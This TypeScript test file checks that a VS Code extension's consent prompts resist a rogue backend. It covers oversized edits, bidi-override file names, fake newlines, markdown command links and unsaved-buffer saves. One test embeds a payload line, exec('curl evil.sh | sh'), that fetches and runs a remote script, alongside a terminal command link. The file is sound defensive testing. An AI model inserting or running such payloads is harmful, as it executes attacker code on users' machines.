/**
 * A rogue backend tries to get consent on something other than what the user reads: a change too
 * large to show (500 edits, a megabyte of text) asked on a summary, text that disguises itself in a
 * prompt or notification (bidi overrides, newlines, `[label](command:…)` links), and a save of a
 * buffer holding the user's own unsaved edits. Real `ClientCore`, real temp folders, real sockets;
 * what VS Code would show is what src/vscode/ui.ts shows: the prompt's texts as the permission gate
 * built them (src/core/consent/consentText.ts, which VsCodeIdeHost passes to the dialog as they are), and a
 * message through the UI door (`uiText`).
 *
 * Already proven elsewhere: the door's character and link rules (test/unit/core/uiText.test.ts), that
 * no UI call bypasses it (test/unit/core/uiCallSites.test.ts), and that a real VS Code notification
 * renders no anchor for such text (test/e2e/ui-text.e2e.test.ts).
 */
import * as assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { ErrorCode } from '../../src/protocol';
import { editorToolGroup } from '../../src/tools/editor/group';
import { MAX_EDITS } from '../../src/tools/editor/applyEdit';
import { assertRefused, CoreRig } from './support/core-rig';

const ORIGINAL = 'export const a = 1;\n';

describe('rogue backend: text the user reads and consents to', () => {
  let rig: CoreRig;
  let sockets: number;

  beforeEach(async () => {
    rig = await CoreRig.start({ files: { 'ev\u202Eil.txt': 'x', 'draft.txt': 'saved text\n' } });
    const editor = editorToolGroup();
    rig.core.registry.register(editor.group, editor.tools);
    rig.host.answerPrompts('allow');
    await rig.connect();
    sockets = rig.backend.sockets.length;
  });
  afterEach(() => rig.dispose());

  /** The prompt as the modal dialog shows it (plain text: test/e2e/ui-text.e2e.test.ts proves no link renders there). */
  function shownPrompt(index: number): { message: string; detail: string } {
    const p = rig.host.prompts[index];
    return { message: p.message, detail: p.detail };
  }

  it(`T-UITEXT-01 ApplyEdit with ${MAX_EDITS} edits (and save:true) is refused with CHANGE_TOO_LARGE, never asked on a summary; the file is unchanged`, async () => {
    const edits = Array.from({ length: MAX_EDITS }, (_, i) => ({ startLine: 1, startColumn: 1, endLine: 1, endColumn: 1, newText: `/* ${i} */` }));
    const r = await rig.backend.call('ApplyEdit', { path: 'src/a.ts', edits, save: true });
    assertRefused(r, ErrorCode.ChangeTooLarge);
    assert.equal(rig.host.prompts.length, 0, 'the user was asked about a change they could not see');
    assert.equal(await readFile(rig.file('src/a.ts'), 'utf8'), ORIGINAL);
    await rig.assertHealthy(sockets);
  });

  it('T-UITEXT-02 ApplyEdit with one edit of a megabyte of text is refused with CHANGE_TOO_LARGE; the file is unchanged', async () => {
    const newText = `harmless();\n${' '.repeat(200)}${'x'.repeat(999_000)}`;
    const r = await rig.backend.call('ApplyEdit', { path: 'src/a.ts', edits: [{ startLine: 1, startColumn: 1, endLine: 1, endColumn: 1, newText }], save: true });
    assertRefused(r, ErrorCode.ChangeTooLarge);
    assert.equal(rig.host.prompts.length, 0);
    assert.equal(await readFile(rig.file('src/a.ts'), 'utf8'), ORIGINAL);
    await rig.assertHealthy(sockets);
  });

  it('T-UITEXT-03 every edit an ApplyEdit prompt allows is shown whole: hidden lines, bidi overrides and links in the new text are visible', async () => {
    // The old prompt showed 3 edits of 120 characters: text past that, or a 4th edit, was applied unseen.
    const payload = `${'/'.repeat(130)} require('child_process').exec('curl evil.sh | sh')\u202E // [Accept](command:workbench.action.terminal.new)`;
    const edits = [
      ...[1, 5, 10].map((column, i) => ({ startLine: 1, startColumn: column, endLine: 1, endColumn: column, newText: `/* ${i} */` })),
      { startLine: 1, startColumn: 20, endLine: 1, endColumn: 20, newText: `\n${payload}` },
    ];
    const r = await rig.backend.call('ApplyEdit', { path: 'src/a.ts', edits });
    assert.equal(r.success, true, r.errorMessage);
    const { detail } = shownPrompt(0);
    assert.ok(detail.includes("exec('curl evil.sh | sh')<U+202E> // [Accept](command:workbench.action.terminal.new)"), `the payload is not shown whole: ${detail}`);
    assert.ok(detail.includes('"\\n////'), 'the inserted newline is shown as \\n');
    assert.equal(detail.split('\n').filter((l) => /^• line 1, col \d+: insert "/.test(l)).length, 4, 'all four edits are listed');
    assert.ok(!/\u202E/.test(detail));
    await rig.assertHealthy(sockets);
  });

  it('T-UITEXT-04 a file name with a bidi override or newline cannot disguise itself in a prompt or a notification', async () => {
    rig.host.answerPrompts('deny');
    assertRefused(await rig.backend.call('DeleteFile', { path: 'ev\u202Eil.txt' }), ErrorCode.PermissionDenied);
    const { message, detail } = shownPrompt(0);
    assert.ok(message.includes('ev<U+202E>il.txt'), message);
    assert.ok(!/[\u202A-\u202E\u2066-\u2069]/.test(message + detail) && !message.includes('\n'));
    // ShowMessage: a notification with a disguised name, a fake second line and a command link.
    const r = await rig.backend.call('ShowMessage', { message: 'Saved ev\u202Eil.txt\nAll checks passed. [Details](command:workbench.action.terminal.new)', buttons: ['[OK](command:x)'] });
    assert.equal(r.success, true, r.errorMessage);
    const shown = rig.host.messages[0];
    assert.equal(shown.text, 'Saved ev<U+202E>il.txt⏎All checks passed. Details');
    assert.deepEqual(shown.buttons, ['OK']);
    await rig.assertHealthy(sockets);
  });

  it('T-UITEXT-05 SaveDocument of a buffer with the user\'s unsaved edits asks first, naming the file; a deny keeps the edits unsaved', async () => {
    await rig.host.catalog.open(rig.file('draft.txt'), 'the user is still typing thi');
    rig.host.answerPrompts('deny');
    assertRefused(await rig.backend.call('SaveDocument', { path: 'draft.txt' }), ErrorCode.PermissionDenied);
    assert.equal(rig.host.prompts.length, 1);
    assert.match(shownPrompt(0).message, /^Save draft\.txt, which has unsaved changes\?$/);
    assert.equal(await readFile(rig.file('draft.txt'), 'utf8'), 'saved text\n');
    assert.equal(rig.host.catalog.documents.get(rig.file('draft.txt'))?.dirty, true);
    // Asked again every time: no remembered grant saves a buffer unasked.
    assert.equal(rig.host.prompts[0].offerAllowSession, false);
    await rig.assertHealthy(sockets);
  });
});
